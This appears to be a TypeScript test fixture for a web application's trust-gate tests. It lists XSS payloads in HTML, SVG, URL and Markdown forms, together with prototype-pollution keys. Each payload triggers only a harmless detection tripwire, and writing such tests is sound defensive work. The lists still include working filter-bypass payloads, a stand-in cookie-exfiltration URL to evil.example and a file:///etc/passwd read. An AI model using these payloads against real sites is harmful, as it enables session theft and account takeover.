/**
 * HTML, SVG, URL and Markdown injection vectors. Every vector that manages to execute calls
 * `window.__odwPwned()`, the tripwire the trust-gate tests install, so an execution is detected instead of
 * showing an alert box.
 */

const PWN = '__odwPwned()';

/** `<script>parent.__odwPwned()</script>` and an SVG with the same handler, base64-encoded for `data:` URLs. */
const SCRIPT_BASE64 = 'PHNjcmlwdD5wYXJlbnQuX19vZHdQd25lZCgpPC9zY3JpcHQ+';
const SVG_BASE64 =
  'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icGFyZW50Ll9fb2R3UHduZWQoKSIvPg==';

/** URLs that execute script when followed or loaded, in the spellings filters miss. */
export const hostileUrls: readonly string[] = [
  `javascript:${PWN}`,
  `JaVaScRiPt:${PWN}`,
  ` javascript:${PWN}`,
  `\tjavascript:${PWN}`,
  `java\tscript:${PWN}`,
  `java\nscript:${PWN}`,
  `\u0001javascript:${PWN}`,
  `&#106;avascript:${PWN}`,
  `&#x6A;avascript:${PWN}`,
  `javascript&#58;${PWN}`,
  `javascript&colon;${PWN}`,
  `%6Aavascript:${PWN}`,
  `javascript%3A${PWN}`,
  `vbscript:${PWN}`,
  `data:text/html,<script>parent.${PWN}</script>`,
  `data:text/html;base64,${SCRIPT_BASE64}`,
  `data:image/svg+xml;base64,${SVG_BASE64}`,
  'file:///etc/passwd',
  '//evil.example/steal?cookie=',
  `https://evil.example/"><img src=x onerror=${PWN}>`,
];

/** Markdown that a renderer with raw HTML or unchecked links turns into script. */
export const hostileMarkdown: readonly string[] = [
  `[Klick mich](javascript:${PWN})`,
  `[Klick mich](JaVaScRiPt:${PWN})`,
  `[Klick mich](javascript&#58;${PWN})`,
  `[Klick mich](data:text/html;base64,${SCRIPT_BASE64})`,
  `![Bild](javascript:${PWN})`,
  `<javascript:${PWN}>`,
  `[Referenz][ref]\n\n[ref]: javascript:${PWN}`,
  `[![Bild](x)](javascript:${PWN})`,
  `**<img src=x onerror=${PWN}>** und _<svg onload=${PWN}>_`,
  `\`<img src=x onerror=${PWN}>\``,
  `> <img src=x onerror=${PWN}>\n>> [x](javascript:${PWN})`,
  `${'>'.repeat(300)} tief verschachteltes Zitat`,
  Array.from({ length: 300 }, (_, i) => `${'  '.repeat(i)}- Ebene ${i}`).join('\n'),
];

/** HTML and SVG that executes when parsed as markup. */
export const hostileHtml: readonly string[] = [
  `"><img src=x onerror=${PWN}>`,
  `'><img src=x onerror=${PWN}>`,
  `<img src=x onerror=${PWN}>`,
  `<svg onload=${PWN}>`,
  `"><svg/onload=${PWN}>`,
  `<svg><script>${PWN}</script></svg>`,
  `<script>${PWN}</script>`,
  `<<script>script>${PWN}<</script>/script>`,
  `<iframe srcdoc="<script>parent.${PWN}</script>"></iframe>`,
  `<body onload=${PWN}>`,
  `<details open ontoggle=${PWN}>`,
  `<input autofocus onfocus=${PWN}>`,
  `<a href="javascript:${PWN}">Link</a>`,
  `<a href="#" onclick="${PWN}">Link</a>`,
  `<object data="javascript:${PWN}"></object>`,
  `<embed src="javascript:${PWN}">`,
  `<base href="javascript:${PWN}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${PWN}">`,
  `<div style="background:url(javascript:${PWN})">`,
  `</noscript><img src=x onerror=${PWN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${PWN}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${PWN}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${PWN}>`,
  `${'<div>'.repeat(300)}<img src=x onerror=${PWN}>`,
  `{{constructor.constructor('${PWN}')()}}`,
  `\${${PWN}}`,
];

/** Keys that pollute prototypes when data is merged into objects carelessly. */
export const hostileKeys: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
];

/** Every vector of this module. */
export const xssVectors: readonly string[] = [
  ...hostileHtml,
  ...hostileUrls,
  ...hostileMarkdown,
  ...hostileKeys,
  '{"__proto__":{"polluted":true}}',
];
